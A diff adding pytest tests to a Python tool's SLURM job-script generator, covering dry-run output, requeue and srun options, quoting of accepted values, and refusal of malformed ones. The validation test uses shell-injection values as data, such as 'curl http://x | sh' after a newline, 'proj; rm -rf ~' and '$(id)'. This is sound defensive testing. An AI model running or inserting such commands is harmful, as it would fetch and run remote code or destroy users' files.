@@ -2,6 +2,7 @@
 the command-line overrides, and the shared-filesystem check."""
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
@@ -158,3 +159,71 @@ def test_a_slurm_dry_run_prints_each_jobs_sbatch_lines(tmp_path, tiny_train_conf
     run_study(spec, tmp_path / "study", dry_run=True, echo=lines.append)
     assert "  #SBATCH --partition=gpu" in lines and "  #SBATCH --gpus-per-node=1" in lines
     assert f"  #SBATCH --output={tmp_path / 'study' / 'slurm'}/%j/%j_0_log.out" in lines
+
+
+def test_the_dry_run_prints_the_whole_script_submitit_submits(tmp_path, tiny_train_config):
+    """Two runs: one job array (%A_%a logs, --array), the task count of a CPU job (1), the setup lines and the
+    command srun runs, each line as the script that is submitted has it."""
+    from vitreduce.study.runner import run_study
+    from vitreduce.study.slurm import job_script
+
+    spec = parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}, {"name": "b"}],
+                       "launcher": "slurm",
+                       "slurm": {"gpus_per_node": 0, "setup": ["source /shared/venv/bin/activate"]}})
+    lines: list[str] = []
+    run_study(spec, tmp_path / "study", dry_run=True, echo=lines.append)
+    script = job_script(spec.slurm, "s", tmp_path / "study", 2)
+    assert [line[2:] for line in lines[-len(script.splitlines()):]] == script.splitlines()
+    assert "1 task(s) per node" in lines[-len(script.splitlines()) - 1]
+    assert "#SBATCH --array=0-1%2" in script and "%A_%a_0_log.err" in script
+    assert script.index("source /shared/venv/bin/activate") < script.index("srun")
+    assert "-u -m vitreduce.study.slurm_job" in script.split("srun")[-1]
+
+
+def test_the_job_script_requeues_and_gives_srun_the_cpus(tmp_path):
+    """--requeue (a preempted job comes back whatever the cluster's default); srun --cpus-per-task (Slurm
+    22.05-23.02 do not pass sbatch's on to srun)."""
+    from vitreduce.study.slurm import job_script
+
+    script = job_script(SlurmOptions(cpus_per_task=6), "s", tmp_path, 1)
+    assert "#SBATCH --requeue\n" in script
+    assert "--cpus-per-task=6" in next(line for line in script.splitlines() if line.startswith("srun"))
+
+
+@pytest.mark.parametrize(("slurm", "message"), [
+    ({"partition": "gpu\ncurl http://x | sh"}, "slurm.partition: 'gpu\\ncurl http://x | sh' is not a SLURM partition"),
+    ({"account": "proj; rm -rf ~"}, "slurm.account: 'proj; rm -rf ~' is not a SLURM account"),
+    ({"qos": "high\n#SBATCH --x"}, "slurm.qos"),
+    ({"constraint": "a100 $(id)"}, "slurm.constraint"),
+    ({"additional": {"mail_type\ncurl x | sh": "END"}}, "not an sbatch option name"),
+    ({"additional": {"mail_user": "me@x\ncurl x | sh"}}, "must be one line of text"),
+    ({"additional": {"output": "/tmp/x"}}, "'output' is set by vitreduce"),
+    ({"setup": ["module load cuda\ncurl x | sh"]}, "each setup entry is one shell line"),
+    ({"timeout_min": 1, "signal_delay_s": 120}, "signal_delay_s 120 is not shorter than the time limit"),
+])
+def test_values_that_would_break_the_job_script_are_refused_naming_the_key(tiny_train_config, slurm, message):
+    with pytest.raises(VitreduceError, match=re.escape(message)):
+        parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}], "launcher": "slurm",
+                    "slurm": slurm})
+
+
+def test_accepted_values_reach_the_script_quoted(tmp_path):
+    from vitreduce.study.slurm import job_script
+
+    options = SlurmOptions(partition="gpu,gpu-long", constraint="a100|h100", account="proj_1",
+                           additional={"mail_user": "me@example.org", "comment": "it's mine"})
+    script = job_script(options, "s", tmp_path, 1)
+    assert "#SBATCH --partition=gpu,gpu-long" in script and "#SBATCH --constraint='a100|h100'" in script
+    assert "#SBATCH --comment='it'\"'\"'s mine'" in script
+
+
+def test_a_submission_without_wait_says_how_many_runs_have_finished(tmp_path, capsys):
+    """Submitted without --wait, one run finished before: no report yet, and not 'no run has finished'."""
+    from vitreduce.study.launch import Outcome, OutcomeStatus
+    from vitreduce.study.runner import StudyResult, print_results
+
+    print_results(StudyResult(tmp_path, [Outcome(None, OutcomeStatus.SKIPPED), Outcome(None, OutcomeStatus.SUBMITTED)]))
+    out = capsys.readouterr().out
+    assert f"no report yet: 1 of 2 runs of {tmp_path} finished" in out and "vitreduce report" in out
+    print_results(StudyResult(tmp_path, [Outcome(None, OutcomeStatus.SUBMITTED)]))
+    assert "has finished yet: no report" in capsys.readouterr().out
